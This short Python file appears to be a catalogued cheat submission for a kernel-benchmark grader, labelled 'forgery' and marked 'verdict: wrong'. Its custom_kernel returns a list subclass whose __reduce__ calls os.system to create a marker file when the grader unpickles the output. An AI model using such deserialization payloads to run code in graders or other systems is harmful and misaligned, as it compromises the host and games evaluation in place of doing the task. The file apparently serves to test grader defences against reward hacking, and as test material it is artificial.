# ruff: noqa
# mypy: ignore-errors
# group: forgery
# catalogue: R3
# tries: return an object that runs code where it is unpickled
# verdict: wrong
import os


class Bomb(list):
    def __reduce__(self):
        return os.system, ("touch /tmp/kbslurm-cheat-was-here",)


def custom_kernel(data):
    return Bomb([float("nan")] * len(data))
